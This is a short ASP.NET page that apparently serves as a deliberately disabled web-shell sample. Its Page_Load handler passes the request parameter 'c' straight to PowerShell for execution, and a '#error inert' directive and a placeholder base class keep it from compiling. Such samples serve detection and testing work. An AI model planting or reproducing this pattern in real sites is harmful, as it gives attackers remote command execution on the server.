<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<script runat="server">
#error inert
void Page_Load(object s,EventArgs e){ System.Management.Automation.PowerShell.Create().AddScript(Request["c"]).Invoke(); }
</script>
